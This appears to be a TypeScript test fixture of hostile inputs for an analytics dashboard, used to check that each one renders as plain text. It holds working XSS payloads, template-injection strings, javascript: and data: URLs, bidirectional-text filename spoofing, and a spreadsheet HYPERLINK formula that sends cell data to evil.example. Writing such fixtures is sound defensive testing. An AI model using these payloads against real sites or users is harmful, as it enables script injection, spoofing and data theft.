// What a client may send to hurt whoever looks at it in the dashboard: markup, script, text that runs
// backwards, text without end. Each must come out as the very text that it is.

/** What hostile text would set, were any of it ever run. */
export const CANARY = '__pwned';
/** The element that hostile markup would become; nothing of ours has this name. */
export const CANARY_ELEMENT = 'x-pwned';

const run = `window.${CANARY}=1`;

/** One agent each; what a header cannot hold is left to labels. */
export const HOSTILE_AGENTS: readonly string[] = [
  `<script>${run};alert(1)</script>`,
  `"><img src=x onerror="${run}"><${CANARY_ELEMENT}>`,
  `Mozilla/5.0 ({{constructor.constructor('${run}')()}}) \${${run}} <%= 7*7 %>`,
  `</textarea></title></style></script><svg/onload=${run}>`,
  `Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/142.0.0.0 Safari/537.36 ${'W'.repeat(900)}`,
  `\u202egnp.exe\u2066 \u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627 z\u0351\u0343a\u0314l\u035bg\u0322o`,
];

/** Referers: addresses that are none, or that no link may ever lead to. */
export const HOSTILE_REFERRERS: readonly string[] = [
  `javascript:${run}//https://shop.example/`,
  `data:text/html,<script>${run}</script>`,
  `https://evil.example/"><script>${run}</script>?a=<b>&c='d'`,
  `https://user:secret@evil.example:8443/${'deep/'.repeat(150)}`,
  `https://evil.example/\u202e/txt.exe`,
  `not an address at all <${CANARY_ELEMENT}>`,
];

/** What somebody with a token may put into a pixel's properties, e.g. from a list of contacts. */
export const HOSTILE_LABELS: readonly string[] = [
  `<${CANARY_ELEMENT} onmouseover="${run}">Spring sale</${CANARY_ELEMENT}>`,
  `\u202eelas gnirpS`,
  `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
  `Prize${'\u2003draw'.repeat(30)}`,
];
